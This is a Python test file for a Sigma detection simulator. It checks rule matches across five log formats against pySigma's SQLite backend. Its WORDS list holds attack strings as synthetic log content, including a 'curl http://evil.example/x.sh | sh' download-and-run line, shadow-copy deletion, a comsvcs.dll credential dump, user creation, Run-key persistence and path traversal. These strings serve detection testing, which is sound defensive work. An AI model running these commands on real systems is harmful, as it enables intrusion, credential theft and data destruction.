"""Hit for hit what pySigma's SQLite backend finds, in five formats, with rules about every modifier."""

# ruff: noqa: E501 - tables of records and rules, a line each

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

import numpy as np
import pytest
import yaml

from simulator import (
    DelimitedLayout,
    JsonLayout,
    KeyValueLayout,
    LogSource,
    PatternLayout,
    RecordedRun,
    Renderer,
)
from tests.sandbox.recordings import HandFormat, Recorder
from tests.sigma.reference import assert_agrees_with_sqlite, sigmahq_rules

BEAT = Renderer(
    "windows", "Winlogbeat", "beat", {}, fields={"*": "winlog.event_data.*", "EventID": "event.code", "Channel": "winlog.channel"},
    log_sources=(
        LogSource("windows", "process_creation", where={"event.code": ("1",)}),
        LogSource("windows", "registry_set", where={"event.code": ("13",)}),
        LogSource("windows", "file_event", where={"event.code": ("11",)}),
        LogSource("windows", None, "security", where={"winlog.channel": ("Security",)}),
        LogSource("windows", None, "system", where={"winlog.channel": ("System",)}),
    ),
)  # fmt: skip
AUTH = Renderer("auth", "auth.log", "auth", {}, log_sources=(LogSource("linux"), LogSource("linux", service="sshd"),
    LogSource("linux", service="auth")), entities={"host": "hostname"})  # fmt: skip
WEB = Renderer(
    "nginx", "nginx", "combined", {}, log_sources=(LogSource(category="webserver"), LogSource(category="proxy")),
    fields={"cs-uri-query": "query", "cs-method": "method", "c-ip": "ip", "sc-status": "status", "cs-user-agent": "agent",
            "c-useragent": "agent", "c-uri": "path", "cs-uri-stem": "path"},
)  # fmt: skip
ZEEK = Renderer(
    "dns", "zeek dns", "zeek", {}, log_sources=(LogSource("zeek", service="dns"), LogSource(category="dns"))
)
AUDIT = Renderer("auditd", "auditd", "audit", {}, log_sources=(LogSource("linux", service="auditd"),),
    fields={"SYSCALL": "syscall"})  # fmt: skip

FORMATS = {
    "windows": HandFormat("beat", JsonLayout(), '"tags":["synthetic"],', "ndjson"),
    "auth": HandFormat("auth", PatternLayout(
        r"^(?P<time>\w{3} [ 0-9]\d [\d:]{8}) (?P<hostname>\S+) (?P<program>[^\s:\[]+)(?:\[(?P<pid>\d+)\])?: *(?P<message>.*)$",
        "%b %d %H:%M:%S"), ".r1a2b3c4d.feint.test"),
    "nginx": HandFormat("combined", PatternLayout(
        r'^(?P<ip>\S+) - (?P<user>\S+) \[(?P<time>[^\]]+)\] "(?P<method>\S+) (?P<path>[^ ?"]*)(?:\?(?P<query>[^ "]*))? [^"]*" '
        r'(?P<status>\d+) "(?P<agent>[^"]*)"', "%d/%b/%Y:%H:%M:%S %z")),
    "dns": HandFormat("zeek", DelimitedLayout(("ts", "id.orig_h", "query", "qtype_name", "answers"), "ts"), extension="tsv"),
    "auditd": HandFormat("audit", KeyValueLayout(
        r"^type=(?P<type>\S+) msg=audit\((?P<time>\d+\.\d+):(?P<serial>\d+)\):", "time", "epoch", quoted=True)),
}  # fmt: skip

WORDS = [
    "C:\\Windows\\System32\\cmd.exe", "c:\\windows\\system32\\CMD.EXE", "powershell -enc SQBFAFgA", "whoami /all", "vssadmin delete shadows",
    "rundll32.exe comsvcs.dll, MiniDump 624 x full", "100%_sure", "100x1sure", "a*b?c", "axbxc", "O'Brien \"quoted\"", "", "-", "true", "1", "7", "10",
    "10.1.2.3", "192.168.1.9", "fe80::1", "Jörg", "JÖRG", "curl http://evil.example/x.sh | sh", "../../etc/passwd", "union select 1,2", "4624",
    "/usr/bin/base64 -d", "Failed password for root", "error: PAM", "{8A5B-1}", "ab\\cd", "ab\\\\cd", "tab\there", "schtasks /create /tn x",
    "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "\\\\host\\pipe\\x", "net user /add bob", "dig axfr", "TXT", "x" * 300,
]  # fmt: skip


def recorded(folder: Path, words: Sequence[str], size: int, hints: Sequence[Mapping[str, str]] = ({},)) -> RecordedRun:
    """Return a run of records that put odd words wherever rules look; ``hints`` are fields that make one fire."""
    chance = np.random.default_rng(7)
    recorder = Recorder(folder)
    names = ("Image", "CommandLine", "ParentImage", "TargetObject", "Details", "TargetFilename", "User", "Level", "SourceIp",
             "OriginalFileName", "Flag", "LogonType", "ServiceName", "ImagePath", "ProcessName", "ImageLoaded")  # fmt: skip

    def one_of(*values: str) -> str:
        return values[chance.integers(len(values))]

    def word() -> str:
        return " ".join(words[place] for place in chance.integers(len(words), size=chance.choice([1, 1, 1, 4])))

    def bare() -> str:
        return word().translate(str.maketrans({'"': "'", " ": "+", "\t": "+", "\n": "+"}))

    def beat() -> str:
        code, channel = chance.choice(
            [("1", "Sysmon"), ("13", "Sysmon"), ("11", "Sysmon"), ("7045", "system"), ("4624", "Security")]
        )
        data = {name: word() for name in names if chance.random() < 0.6}
        data |= {} if chance.random() < 0.2 else hints[chance.integers(len(hints))]
        data |= {"Number": int(chance.integers(20)), "Enabled": bool(chance.integers(2))}
        document = {
            "@timestamp": "2026-01-01T00:00:00Z",
            "event": {"code": code},
            "winlog": {"channel": channel, "event_data": data},
        }
        return "{" + FORMATS["windows"].tag + json.dumps(document, ensure_ascii=False)[1:]

    lines = (
        beat,
        lambda: f"Jan  1 00:00:01 web1.r1a2b3c4d.feint.test sshd[7]: {word()} {word()}".replace("\n", " "),
        lambda: f'10.0.0.{chance.integers(9)} - - [01/Jan/2026:00:00:01 +0000] "{one_of("GET", "POST")} /{bare()}?{bare()} HTTP/1.1" '
        f'{one_of("200", "404", "500")} "{bare()}"',
        lambda: f"1767225600.5\t10.0.0.1\t{bare()}\t{one_of('A', 'TXT')}\t-",
        lambda: f'type={one_of("EXECVE", "SYSCALL", "PATH")} msg=audit(1767225600.1:4): a0="{bare()}" a1="{bare()}" '
        f'name="{bare()}" syscall=59 key=-',
    )  # fmt: skip
    for renderer, line in zip((BEAT, AUTH, WEB, ZEEK, AUDIT), lines, strict=True):
        recorder.add(renderer, FORMATS[renderer.name], [line() for _ in range(size if renderer is BEAT else size // 4)])
    return recorder.run()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> RecordedRun:
    return recorded(tmp_path_factory.mktemp("run"), WORDS, 800)


DETECTIONS = {
    "equal": "{s: {Image: 'c:\\windows\\SYSTEM32\\cmd.exe'}, condition: s}",
    "percent and underscore are letters": "{s: {CommandLine: '100%_sure'}, condition: s}",
    "contains an underscore": "{s: {CommandLine|contains: '%_s'}, condition: s}",
    "wildcards": "{s: {CommandLine: 'a?b?c'}, condition: s}",
    "escaped wildcards": "{s: {CommandLine: 'a\\*b\\?c'}, condition: s}",
    "backslashes": "{s: {CommandLine: ['ab\\cd', 'ab\\\\\\\\cd', '\\\\\\\\host\\pipe*']}, condition: s}",
    "ends with": "{s: {Image|endswith: ['\\CMD.exe', 'full']}, condition: s}",
    "starts with": "{s: {CommandLine|startswith: 'POWER'}, condition: s}",
    "all": "{s: {CommandLine|contains|all: ['a', 'e', ' ']}, condition: s}",
    "cased": "{s: {Image|cased: 'C:\\Windows\\System32\\cmd.exe'}, t: {CommandLine|contains|cased: 'CMD'}, condition: s or t}",
    "not over what is absent": "{s: {Image|contains: 'e'}, f: {User: 'true'}, condition: s and not f}",
    "only not": "{f: {User|contains: 'e'}, condition: not f}",
    "not not": "{f: {User|contains: 'e'}, g: {Image: null}, condition: not (f or not g)}",
    "null": "{s: {User: null}, condition: s}",
    "empty": "{s: {User: ''}, condition: s}",
    "exists": "{s: {User|exists: true, Image|exists: false}, condition: s}",
    "numbers": "{s: {Level: 7}, t: {LogonType: [1, 10]}, condition: s or t}",
    "numbers that JSON holds": "{s: {Number: [3, 17]}, condition: s}",
    "less and more": "{s: {Number|gte: 7, Number|lt: 12}, t: {Level|gt: 1.5}, condition: s or t}",
    "truth": "{s: {Enabled: true}, t: {Flag: false}, condition: s and not t}",
    "regular expression": "{s: {CommandLine|re: '^[a-z]+ /[a-z]+$'}, t: {Image|re|i: 'CMD\\.exe$'}, condition: s or t}",
    "networks": "{s: {SourceIp|cidr: ['10.0.0.0/8', '192.168.0.0/21', 'fe80::/10']}, condition: s}",
    "one field in another": "{s: {Image|fieldref: CommandLine}, t: {Details|fieldref|contains: Level}, condition: s or t}",
    "encodings": "{s: {CommandLine|base64offset|contains: 'IEX'}, t: {CommandLine|utf16le|base64|contains: 'IEX'}, condition: s or t}",
    "dashes": "{s: {CommandLine|windash|contains: ' -all'}, condition: s}",
    "keywords": "{k: ['whoami', '100%_', 'ab\\cd', 'JÖRG'], condition: k}",
    "keywords, all of them": "{k: {'|all': ['windows', 'cmd', 'e']}, condition: k}",
    "keywords and fields": "{k: ['*who*all*', 4624], s: {Image|contains: 'e'}, condition: k and not s}",
    "keyword by regular expression": "{k: {'|re': '[0-9]{3,}x'}, condition: k}",
    "not equal": "{s: {Image|neq: ['C:\\Windows\\System32\\cmd.exe', 'true']}, condition: s}",
    "one of": "{a_1: {Image|contains: cmd}, a_2: {Level: '1'}, b: {User|contains: r}, condition: 1 of a_* and not all of them}",
    "a list of maps": "{s: [{Image|contains: cmd, User|contains: e}, {Level: 10}], condition: s}",
    "a single star": "{s: {User: '*'}, condition: s}",
    "many alternatives": "{s: {CommandLine|contains: ["
    + ", ".join(f"w{n}" for n in range(1500))
    + ", whoami]}, condition: s}",
}


@pytest.mark.parametrize("name", DETECTIONS)
def test_a_rule_finds_what_sqlite_finds(run, tmp_path, name):
    detection = DETECTIONS[name]
    text = f"title: {name!r}\nid: 3f0dcc9d-0000-4000-8000-000000000001\nlogsource: {{product: windows}}\ndetection: {detection}\n"
    rule = Path(tmp_path / "rule.yml")
    rule.write_text(text.replace("|utf16le", "|wide"), encoding="utf-8")

    hits = assert_agrees_with_sqlite(run, [rule])

    assert 0 < hits < 1600  # out of 1600: the records put the rule to work


def test_seven_hundred_real_rules_find_what_sqlite_finds(tmp_path):
    rules = sigmahq_rules()
    words = {
        word
        for path in rules
        for word in plain_words(yaml.safe_load(path.read_text(encoding="utf-8")).get("detection"))
    }
    hints = [
        hint for path in rules for hint in fields_of(yaml.safe_load(path.read_text(encoding="utf-8")).get("detection"))
    ]
    run = recorded(tmp_path, [*sorted(words), *WORDS], 2000, hints)

    hits = assert_agrees_with_sqlite(run, rules)

    assert hits > 400


def fields_of(detection: object) -> Iterator[dict[str, str]]:
    """Yield, for a detection, values of its fields all at once: what many of its selections ask for."""
    hint = {}
    for selection in detection.values() if isinstance(detection, dict) else ():
        for each in selection if isinstance(selection, list) else [selection]:
            for key, value in each.items() if isinstance(each, dict) else ():
                hint.setdefault(key.split("|")[0], " ".join(plain_words(value if isinstance(value, list) else [value])))
    yield hint


def plain_words(value: object) -> Iterator[str]:
    """Yield the values that rules look for, without their wildcards."""
    if isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from plain_words(each)
    elif isinstance(value, str):
        yield value.strip("*").replace("\0", "")
